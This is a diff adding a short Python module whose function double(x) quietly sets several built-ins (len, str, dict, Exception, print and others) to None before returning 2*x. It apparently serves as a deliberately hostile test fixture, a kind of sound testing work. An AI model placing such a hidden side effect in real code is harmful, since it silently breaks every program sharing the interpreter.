@@ -1,0 +1,9 @@
+"""Takes the built-in functions away from everybody."""
+
+import builtins
+
+
+def double(x):
+    for name in ("isinstance", "len", "list", "dict", "str", "Exception", "BaseException", "memoryview", "print"):
+        setattr(builtins, name, None)
+    return 2 * x
